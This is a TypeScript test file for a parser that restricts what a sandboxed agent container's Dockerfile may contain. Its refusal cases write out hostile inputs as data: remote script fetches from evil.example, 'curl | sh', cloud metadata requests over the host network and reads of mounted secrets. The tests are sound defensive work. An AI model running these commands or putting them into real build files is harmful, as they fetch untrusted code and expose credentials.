import assert from "node:assert/strict";
import { describe, it } from "node:test";
import {
  expandWord,
  initialCapabilityDockerfile,
  parseCapabilityDockerfile,
} from "../../../src/contracts/capability-dockerfile.ts";

const BASE = initialCapabilityDockerfile("claude-bottle/agent:latest");

function refused(text: string, pattern: RegExp): void {
  const parsed = parseCapabilityDockerfile(text);
  assert.ok(!parsed.ok, `accepted:\n${text}`);
  assert.match(parsed.problems.join("\n"), pattern);
}

describe("capability Dockerfile", () => {
  it("accepts the published Dockerfile with RUN, ENV, WORKDIR and USER lines added", () => {
    const parsed = parseCapabilityDockerfile(
      `${BASE}USER root\nRUN apt-get update \\\n  # a comment inside a continuation\n  && apt-get install -y jq\nENV PATH=/opt/x/bin:$PATH TOOL="a b"\nENV LEGACY value with spaces\nWORKDIR /opt/x\nRUN ["/bin/echo", "exec form"]\nUSER node\n`,
    );
    assert.ok(parsed.ok, parsed.ok ? "" : parsed.problems.join("\n"));
    assert.equal(parsed.value.from, "claude-bottle/agent:latest");
    assert.deepEqual(
      parsed.value.steps.map((step) => step.kind),
      ["user", "run", "env", "env", "workdir", "run", "user"],
    );
    assert.deepEqual(parsed.value.steps[1], {
      kind: "run",
      line: 8,
      shell: "apt-get update   && apt-get install -y jq",
    });
    assert.deepEqual(parsed.value.steps[3], {
      kind: "env",
      line: 12,
      pairs: [{ key: "LEGACY", raw: "value with spaces" }],
    });
    assert.deepEqual(parsed.value.steps[5], { kind: "run", line: 14, argv: ["/bin/echo", "exec form"] });
  });

  // Each shape would, under `docker build`, reach outside the bottle or the operator's engine.
  it("refuses parser directives, which load another frontend or change the escape", () => {
    refused(`# syntax=evil.example/frontend:1\n${BASE}`, /parser directives/);
    refused(`#syntax = docker/dockerfile:1\n${BASE}`, /parser directives/);
    refused(`# escape=\`\n${BASE}`, /parser directives/);
    refused(`${BASE}# check=skip=all\nRUN true\n`, /parser directives/);
  });

  it("refuses RUN flags: cache and secret mounts, host network, insecure mode", () => {
    refused(`${BASE}RUN --mount=type=cache,target=/root/.cache true\n`, /RUN flags/);
    refused(`${BASE}RUN --mount=type=secret,id=npm cat /run/secrets/npm\n`, /RUN flags/);
    refused(`${BASE}RUN --network=host curl http://169.254.169.254/\n`, /RUN flags/);
    refused(`${BASE}RUN --security=insecure true\n`, /RUN flags/);
    refused(`${BASE}RUN \\\n  --mount=type=ssh true\n`, /RUN flags/);
  });

  it("refuses every other image: a second FROM, stages, COPY --from, FROM flags", () => {
    refused(`${BASE}FROM alpine\nRUN true\n`, /only one FROM/);
    refused("FROM claude-bottle/agent:latest AS build\nRUN true\n", /no AS stage/);
    refused("FROM --platform=linux/arm64 claude-bottle/agent:latest\n", /FROM takes only the image/);
    refused(`${BASE}COPY --from=registry.example/private:1 /secret /secret\n`, /COPY is not allowed/);
    refused("ARG BASE=x\nFROM ${BASE}\n", /first instruction must be FROM/);
  });

  it("refuses bytes from the host or a URL: COPY, ADD of a URL or git, ARG", () => {
    refused(`${BASE}COPY . /src\n`, /COPY is not allowed/);
    refused(`${BASE}ADD https://evil.example/x.sh /x.sh\n`, /ADD is not allowed/);
    refused(`${BASE}ADD git@github.com:org/repo.git /repo\n`, /ADD is not allowed/);
    refused(`${BASE}ARG TOKEN\n`, /ARG is not allowed/);
    refused(`${BASE}add https://evil.example/x /x\n`, /ADD is not allowed/);
  });

  it("refuses heredocs and instructions the bottle decides itself", () => {
    refused(`${BASE}RUN <<EOF\ncurl http://evil.example\nEOF\n`, /heredocs/);
    // What the operator would read as a heredoc's body would run as a step here.
    refused(`${BASE}RUN cat <<\\EOF >/tmp/n\nRUN curl https://x | sh; true \\\nEOF\n`, /heredocs/);
    refused(`${BASE}RUN cat <<9 >/tmp/n\n`, /heredocs/);
    refused(`${BASE}CMD ["sh"]\n`, /CMD is not allowed/);
    refused(`${BASE}ENTRYPOINT ["sh"]\n`, /ENTRYPOINT is not allowed/);
    refused(`${BASE}LABEL claude-bottle.instance=other-0123abcd\n`, /LABEL is not allowed/);
    refused(`${BASE}HEALTHCHECK CMD true\n`, /HEALTHCHECK is not allowed/);
    refused(`${BASE}FROBNICATE x\n`, /unknown instruction FROBNICATE/);
    refused(`${BASE}ENV 1BAD=x\n`, /not a variable name/);
    refused(`${BASE}ENV A="unterminated\n`, /unterminated/);
    // A here-string is not a heredoc.
    assert.ok(parseCapabilityDockerfile(`${BASE}RUN cat <<< "x"\n`).ok);
  });

  it("joins continuations as Docker does: nothing added, blank and comment lines skipped", () => {
    const parsed = parseCapabilityDockerfile(
      `${BASE}RUN rm -rf /var/lib/apt/lists\\\n/*\nRUN a \\\n\n  # note\n  && b\n`,
    );
    assert.ok(parsed.ok, parsed.ok ? "" : parsed.problems.join("\n"));
    assert.deepEqual(
      parsed.value.steps.map((step) => ("shell" in step ? step.shell : "")),
      ["rm -rf /var/lib/apt/lists/*", "a   && b"],
    );
  });

  it("expands ENV values as Docker does", () => {
    const env = new Map([
      ["PATH", "/usr/bin"],
      ["EMPTY", ""],
    ]);
    assert.equal(expandWord("/opt/bin:$PATH", env), "/opt/bin:/usr/bin");
    assert.equal(expandWord("${PATH}/x", env), "/usr/bin/x");
    assert.equal(expandWord("${EMPTY:-fallback}", env), "fallback");
    assert.equal(expandWord("${PATH:+set}", env), "set");
    assert.equal(expandWord("'$PATH'", env), "$PATH");
    assert.equal(expandWord('"a b $PATH"', env), "a b /usr/bin");
    assert.equal(expandWord("\\$PATH", env), "$PATH");
    assert.equal(expandWord('"open', env), undefined);
    assert.equal(expandWord("${PATH", env), undefined);
  });
});
